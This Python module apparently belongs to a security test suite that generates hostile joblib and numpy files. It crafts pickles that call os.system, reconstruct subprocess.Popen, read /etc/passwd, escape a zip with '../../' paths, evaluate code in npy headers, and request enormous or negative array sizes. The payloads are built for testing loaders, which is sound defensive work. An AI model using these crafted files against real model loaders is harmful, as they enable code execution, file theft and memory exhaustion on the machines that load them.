"""joblib's and numpy's own ways to put arrays into files: types, shapes and sizes that lie."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator

import numpy as np

from hostile.assemble import Code, call, name, pickled, text, value
from hostile.hostile_file import Canary, Hostile

FLOATS = call("numpy", "dtype", "f8", False, True)
OBJECTS = call("numpy", "dtype", "O8", False, True)


def array_files(canary: Canary) -> Iterator[Hostile]:
    """Yield files named model.joblib for joblib's wrappers, and model.pkl for numpy's."""
    evil = pickled(call("os", "system", canary.touch("j1")))
    for title, (tries, state, behind) in _wrappers(canary, evil).items():
        wrapper = Code(name("joblib.numpy_pickle", "NumpyArrayWrapper").code, b")\x81", value(state), b"b")
        yield Hostile(title, tries, pickled(wrapper)[:-1] + behind + b".", "model.joblib")
    old = Code(name("joblib.numpy_pickle_compat", "NDArrayWrapper").code, b")\x81", value({"filename": "/etc/passwd", "subclass": name("numpy", "memmap")}), b"b")  # fmt: skip
    yield Hostile("joblib's wrapper of files (before 0.10)", "opens a file by name", pickled(old), "model.joblib")
    old = Code(name("joblib.numpy_pickle_compat", "ZNDArrayWrapper").code, b")\x81", value({"filename": "../x", "init_args": (), "state": ()}), b"b")  # fmt: skip
    yield Hostile("joblib's wrapper of compressed files", "opens a file by name", pickled(old), "model.joblib")
    yield Hostile("lz4 in name only", "another decompressor", b"\x04\x22\x4d\x18" + evil, "model.joblib")
    for title, (tries, code) in _numpy(canary).items():
        yield Hostile(title, tries, pickled(code))
    for title, (tries, content) in _npy(canary).items():
        yield Hostile(title, tries, content)


def _wrappers(canary: Canary, evil: bytes) -> dict[str, tuple[str, dict[str, object], bytes]]:
    good = {"subclass": name("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": FLOATS, "allow_mmap": False}
    deep = b""
    for _ in range(50):
        nested = Code(
            name("joblib.numpy_pickle", "NumpyArrayWrapper").code, b")\x81", value(good | {"dtype": OBJECTS}), b"b"
        )
        deep += b"\x80\x04" + nested.code
    return {
        "a joblib array of objects that call": ("a pickle within the pickle", good | {"dtype": OBJECTS}, evil),
        "a joblib array of arrays of arrays": ("a stack of readers", good | {"dtype": OBJECTS}, deep),
        "a joblib array of a class that calls": ("makes what it names", good | {"subclass": name("os", "system")}, bytes(8)),
        "a joblib array mapped from a file": ("maps memory", good | {"subclass": name("numpy", "memmap"), "allow_mmap": True}, b""),
        "a joblib array of terabytes": ("memory for the shape", good | {"shape": (2**31 - 1, 2**31 - 1)}, bytes(8)),
        "a joblib array whose size wraps around": ("a product of 2**64", good | {"shape": (Code(b"\x8a\x05\0\0\0\0\x01"), Code(b"\x8a\x05\0\0\0\0\x01"))}, bytes(8)),
        "a joblib array of a negative shape": ("a size below zero", good | {"shape": (-1, -8)}, bytes(8)),
        "a joblib array of a shape of text": ("no shape", good | {"shape": ("1",)}, bytes(8)),
        "a joblib array of a million dimensions": ("no shape", good | {"shape": tuple([1] * 5000)}, bytes(8)),
        "a joblib array in no order": ("no order", good | {"order": "X"}, bytes(8)),
        "a joblib array with padding to the end": ("reads beyond the file", good | {"numpy_array_alignment_bytes": 16}, b"\xff"),
        "a joblib array of no type": ("a type that is text", good | {"dtype": "O"}, bytes(8)),
        "a joblib array behind nothing": ("state of its own", {}, b""),
    }  # fmt: skip


def _typed(spec: str, state: tuple[object, ...]) -> Code:
    return Code(call("numpy", "dtype", spec, False, True).code, value(state), b"b")


def _array(dtype: Code, shape: tuple[object, ...], content: object) -> Code:
    empty = call("numpy._core.multiarray", "_reconstruct", name("numpy", "ndarray"), (0,), b"b")
    return Code(empty.code, value((1, shape, dtype, False, content)), b"b")


def _numpy(canary: Canary) -> dict[str, tuple[str, Code]]:
    evil = call("os", "system", canary.touch("j2"))
    hidden = _typed("V8", (3, "|", None, ("a",), {"a": (OBJECTS, 0)}, 8, 1, 16))
    outside = _typed("V8", (3, "|", None, ("a",), {"a": (FLOATS, 4096)}, 8, 1, 16))
    return {
        "an array of objects that call": ("a call as an element", _array(OBJECTS, (1,), [evil])),
        "objects hidden in a structured type": ("bytes that are followed as pointers", _array(hidden, (1,), b"\x41" * 8)),
        "a field beyond its item": ("memory beside the array", _array(outside, (1,), bytes(8))),
        "objects that are said to be none": ("flags of a type that lie", _array(_typed("O8", (3, "|", None, None, None, -1, -1, 0)), (1,), b"\x41" * 8)),
        "an array larger than its content": ("memory behind the content", _array(FLOATS, (1000,), bytes(8))),
        "an array of a negative length": ("memory before the content", _array(FLOATS, (-1,), bytes(8))),
        "an array of dates": ("types that no model needs", _array(call("numpy", "dtype", "M8[ns]", False, True), (1,), bytes(8))),
        "a type by a list of fields": ("numpy's parser of types", call("numpy", "dtype", "i4,(99999999,)f8", False, True)),
        "a type of a subarray of a terabyte": ("memory for one item", call("numpy", "dtype", "(1000000,1000000)f8", False, True)),
        "a type of a class": ("looks for a dtype attribute", call("numpy", "dtype", name("subprocess", "Popen"), False, True)),
        "a text type of two gigabytes": ("memory for one item", call("numpy", "dtype", "U536870911", False, True)),
        "a scalar of an object": ("unpickles what it holds", call("numpy._core.multiarray", "scalar", OBJECTS, pickled(evil))),
        "a scalar without content": ("memory behind the content", call("numpy._core.multiarray", "scalar", FLOATS, b"")),
        "an array from a buffer that is too short": ("memory behind the buffer", call("numpy._core.numeric", "_frombuffer", bytes(8), FLOATS, (1000,), "C")),
        "an array from a buffer of objects": ("bytes that are followed as pointers", call("numpy._core.numeric", "_frombuffer", b"\x41" * 8, OBJECTS, (1,), "C")),
        "a _reconstruct of another class": ("makes what it names", call("numpy._core.multiarray", "_reconstruct", name("subprocess", "Popen"), (0,), b"b")),
    }  # fmt: skip


def _npy(canary: Canary) -> dict[str, tuple[str, bytes]]:
    file = io.BytesIO()
    np.save(file, np.array([None], dtype=object), allow_pickle=True)
    objects = file.getvalue()[:-60] + pickled(call("os", "system", canary.touch("j3")))
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("a.npy", objects)
        archive.writestr("../../escape.npy", objects)

    def header(text_: str, size: int | None = None, version: int = 1) -> bytes:
        length = len(text_) if size is None else size
        return b"\x93NUMPY" + bytes([version, 0]) + length.to_bytes(2 if version == 1 else 4, "little") + text_.encode()

    return {
        "an npy of objects": ("numpy.load with allow_pickle", objects),
        "an npz of objects": ("numpy.load of a zip, and a path out of it", zipped.getvalue()),
        "an npy whose header calls": ("a header that is evaluated", header(f"{{'descr': {canary.python('j4')}, 'fortran_order': False, 'shape': (1,)}}\n")),
        "an npy of Python 2": ("a header that is parsed twice", header("{'descr': '<f8', 'fortran_order': False, 'shape': (1L,)}\n") + bytes(8)),
        "an npy of four gigabytes of header": ("memory for the header", header("{", 2**32 - 1, 2)),
        "an npy of an exabyte": ("memory for the shape", header("{'descr': '<f8', 'fortran_order': False, 'shape': (1152921504606846976,)}\n")),
        "an npy of nested brackets": ("the stack of a parser", header("(" * 60000)),
    }  # fmt: skip


def bodies(canary: Canary) -> dict[str, bytes]:
    """Bodies of requests of type application/x-npy: the same tricks, by whoever may invoke the endpoint."""
    others = {"text of a pickle": text("x"), "a pickle": pickled(call("os", "system", canary.touch("j5")))}
    return {title: content for title, (_, content) in _npy(canary).items()} | others
